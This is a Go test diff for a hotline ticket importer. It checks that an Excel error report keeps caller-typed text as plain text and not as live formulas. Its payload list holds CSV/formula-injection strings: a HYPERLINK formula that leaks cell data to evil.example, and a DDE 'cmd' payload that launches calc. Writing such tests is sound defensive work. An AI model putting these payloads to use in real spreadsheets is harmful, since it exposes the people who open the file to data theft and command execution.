@@ -3,6 +3,7 @@ package hotline
 import (
 	"bytes"
 	"errors"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
@@ -509,5 +510,40 @@ func TestOpen(t *testing.T) {
 	_ = os.WriteFile(bad, []byte("工单编号,诉求人\n"), 0o600)
 	if _, err := Open(bad, Auto); err == nil || !strings.Contains(err.Error(), "来电时间") {
 		t.Errorf("Open(bad) err = %v", err)
+	}
+}
+
+// A cell of the error report that quotes what a caller typed stays text: "=HYPERLINK(…)" or
+// "@SUM(…)" in a reason must not become a formula that Excel runs when the dispatcher opens it.
+func TestErrorReportCellsAreNeverFormulas(t *testing.T) {
+	t.Parallel()
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"}
+	var errs []RowError
+	for i, p := range payloads {
+		errs = append(errs, RowError{Line: i + 2, Column: p, Field: "content", Reason: p})
+	}
+	var buf bytes.Buffer
+	if err := WriteErrorReport(&buf, errs); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	sheet := f.GetSheetList()[0]
+	for i, p := range payloads {
+		for _, col := range []string{"B", "C"} {
+			cell := fmt.Sprintf("%s%d", col, i+2)
+			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
+				t.Errorf("%s holds formula %q (%v), want text", cell, formula, err)
+			}
+			if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeFormula {
+				t.Errorf("%s is a formula cell", cell)
+			}
+			if v, _ := f.GetCellValue(sheet, cell); v != p {
+				t.Errorf("%s = %q, want the text %q kept as typed", cell, v, p)
+			}
+		}
 	}
 }
